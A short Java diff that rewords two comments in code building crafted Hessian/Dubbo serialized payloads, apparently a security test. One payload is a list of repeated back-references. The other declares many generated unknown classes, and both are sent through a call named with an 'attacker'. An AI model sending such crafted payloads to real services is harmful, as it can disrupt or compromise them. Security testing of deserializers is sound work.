@@ -61,7 +61,7 @@ final class Contents {
         list.write('Z');
         for (int i = 0; i < REFERENCES; i++) {
             list.write('Q');
-            list.write(0x90 + i % 2); // a reference to the list or to the map, in turn
+            list.write(0x90 + i % 2); // alternately a reference to the list and to the map
         }
         list.write('Z');
         dubbo(attacker, () -> list.toByteArray());
@@ -76,7 +76,7 @@ final class Contents {
             for (int i = 0; i < CLASSES; i++) {
                 list.write('C');
                 list.writeBytes(RawDubbo.text(Target.class.getPackageName() + ".Unknown" + name.getAndIncrement()));
-                list.write(0x91); // one field
+                list.write(0x91); // the class has one field
                 list.writeBytes(RawDubbo.text("a"));
                 list.write('O');
                 list.writeBytes(RawDubbo.number(i));
